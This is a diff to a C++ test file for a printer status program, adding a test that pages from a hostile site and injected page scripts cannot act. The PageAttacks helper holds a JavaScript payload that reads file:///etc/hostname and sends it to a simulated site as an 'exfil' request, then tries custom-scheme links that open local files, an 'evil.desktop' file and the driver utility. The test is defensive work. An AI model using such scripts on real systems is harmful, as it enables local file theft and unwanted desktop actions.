@@ -6,6 +6,8 @@
 
 #include <httplib.h>
 
+#include <optional>
+
 using namespace kaldo;
 using namespace kaldo::testsupport;
 
@@ -65,12 +67,63 @@ protected:
         return WaitUntil([&] { return Footer().find(text) != std::string::npos; }) &&
                WaitForText(FooterPane(), text);
     }
-    void ClickRefresh() {
-        RunInPane(FooterPane(), "document.querySelector('a[href=\"util-rs:\"]').click()");
+    void ClickRefresh() { UserClick(FooterPane(), "a[href=\"util-rs:\"]"); }
+
+    std::string SiteRequests() const {
+        const auto control = *m_simulator.ControlAddress();
+        auto result = httplib::Client(control.host, control.port).Get("/requests");
+        return result ? result->body : std::string();
     }
 
     simulator::Simulator m_simulator;
 };
+
+// Stand-ins for the desktop's tools on PATH: the opener only notes what it was given, and
+// every type has a default application, so that nothing stops short of the opener.
+class RecordingDesktop {
+public:
+    explicit RecordingDesktop(const fs::path& folder)
+        : m_log(folder / "opened.txt") {
+        fs::create_directories(folder / "bin");
+        std::ofstream(folder / "bin/xdg-open")
+            << "#!/bin/sh\necho \"$@\" >> '" << m_log.string() << "'\n";
+        std::ofstream(folder / "bin/xdg-mime") << "#!/bin/sh\necho stand-in.desktop\n";
+        for (const char* tool : {"xdg-open", "xdg-mime"})
+            fs::permissions(folder / "bin" / tool, fs::perms::owner_all);
+        m_path.emplace("PATH",
+                       ((folder / "bin").string() + ":" + qgetenv("PATH").toStdString()).c_str());
+    }
+
+    std::string Opened() const { return ReadBytes(m_log); }
+
+private:
+    fs::path m_log;
+    std::optional<ScopedEnv> m_path;
+};
+
+// What a page tries by itself, one attempt after another: switch the printer, read a local
+// file and send it to the site, have the desktop open local and fetched files, run the driver
+// utility, refresh in a loop.
+QString PageAttacks(const std::string& site) {
+    return QStringLiteral(
+               "var site = '%1'; var attempts = ["
+               "function () { location.href = 'sp:Studio_C5100'; },"
+               "function () { fetch('file:///etc/hostname').then(function (r) { return r.text(); })"
+               "  .then(function (t) { location.href = site + 'exfil?d=' + t; })"
+               "  .catch(function () { location.href = site + 'exfil?d=unread'; }); },"
+               "function () { location.href = 'file:///etc/hostname#pdfs'; },"
+               "function () { location.href = 'file:///etc/hostname?htmldocs'; },"
+               "function () { location.href = 'pdfs/quick_setup.pdf'; },"
+               "function () { location.href = 'doc:&FileName=evil.desktop'; },"
+               "function () { location.href = 'video:&FileName=clear_paper_jam.webm'; },"
+               "function () { location.href = 'ps:'; },"
+               "function () { location.href = 'util-rs:'; },"
+               "function () { window.open('sp:Studio_C5100'); },"
+               "function () { document.forms.length && document.forms[0].submit(); },"
+               "function () { window.attacksDone = true; }];"
+               "attempts.forEach(function (a, i) { setTimeout(a, 150 * i); });")
+        .arg(QString::fromStdString(site));
+}
 
 } // namespace
 
@@ -152,7 +205,7 @@ TEST_F(LiveStatusTest, NewerUpdateFeedIsAnnouncedAndAppliedOnce) {
     ASSERT_TRUE(FooterSays("What's New?") && FooterSays("width:80%")) << Footer();
 
     // The model page link takes the new feed as the current one; the notice goes.
-    RunInPane(FooterPane(), "document.querySelector('a[href=\"printermodelurl:\"]').click()");
+    UserClick(FooterPane(), "a[href=\"printermodelurl:\"]");
     EXPECT_TRUE(
         WaitUntil([&] { return m_context->UpdateState() == UpdateState::NoUpdatesPending; }));
     const std::string current = m_context->Folders().XmlFolder + "/KTWUpdates.xml";
@@ -188,11 +241,54 @@ TEST_F(LiveStatusTest, EachContentFolderShowsAndAppliesItsOwnUpdateNotice) {
     EXPECT_EQ(Footer().find("What's New?"), std::string::npos) << Footer();
     // The studio's model-page link (its footer shows none) applies nothing of the office's.
     const std::string officeFeed = ReadBytes(officeXml + "/KTWUpdates.xml");
-    EXPECT_TRUE(m_context->Dispatch(*BodyPane(), "printermodelurl:"));
+    EXPECT_TRUE(m_context->Dispatch(*BodyPane(), "printermodelurl:", NavigationStart::User));
     EXPECT_EQ(ReadBytes(officeXml + "/KTWUpdates.xml"), officeFeed);
 
     ASSERT_TRUE(m_context->SelectPrinterByName("Office_3020"));
     EXPECT_EQ(m_context->UpdateState(), UpdateState::UpdatesAvailable);
     ClickRefresh();
     EXPECT_TRUE(FooterSays("What's New?") && FooterSays("width:80%")) << Footer();
+}
+
+// Pages from a hostile site arrive without anything that acts, and what a page's script tries
+// by itself in the program's own pages does nothing: the printer stays, nothing is sent to the
+// site, the desktop is never called and the pane is not reloaded.
+TEST_F(LiveStatusTest, HostileSiteAndPageScriptsActForNobody) {
+    StartPrinter({"--site", "127.0.0.1:0", "--hostile", "yes"});
+    UseSimulatedSite();
+    RecordingDesktop desktop(m_temp / "desktop");
+    const std::string site =
+        "http://127.0.0.1:" + std::to_string(m_simulator.SiteAddress()->port) + "/";
+    Start("Office_3020");
+
+    const std::string whatsnew = m_context->ContentPath("whatsnew.html");
+    ASSERT_TRUE(WaitUntil([&] {
+        return ReadBytes(whatsnew).find("News from the Kaldo web site") != std::string::npos;
+    })) << ReadBytes(whatsnew);
+    EXPECT_EQ(ReadBytes(whatsnew).find("<script"), std::string::npos);
+    // The footer has shown the printer's status and stays.
+    ASSERT_TRUE(FooterSays("width:80%")) << Footer();
+
+    for (BrowserHost* pane : {BodyPane(), HeaderPane(), FooterPane()}) {
+        const std::string page = PageOf(pane);
+        ASSERT_EQ(Js(pane, "window.kept = 42").toInt(), 42);
+        RunInPane(pane, PageAttacks(site));
+        ASSERT_TRUE(WaitUntil([&] { return Js(pane, "window.attacksDone === true").toBool(); }))
+            << page;
+        EXPECT_EQ(Js(pane, "window.kept").toInt(), 42) << page; // never reloaded
+        EXPECT_EQ(PageOf(pane), page);
+    }
+
+    BodyPane()->Navigate(whatsnew);
+    ASSERT_TRUE(WaitForPage(BodyPane(), whatsnew));
+    // The hostile page's own attempts were a few hundred milliseconds apart.
+    WaitUntil([] { return false; }, 3000);
+    EXPECT_EQ(PageOf(BodyPane()), whatsnew);
+
+    EXPECT_EQ(m_context->Printer().SelectedPrinter, "Office_3020");
+    EXPECT_EQ(desktop.Opened(), "");
+    const std::string requests = SiteRequests();
+    EXPECT_EQ(requests.find("exfil"), std::string::npos) << requests;
+    EXPECT_NE(requests.find("whatsnew.html"), std::string::npos) << requests;
+    EXPECT_FALSE(TraceHas("driver utility"));
 }
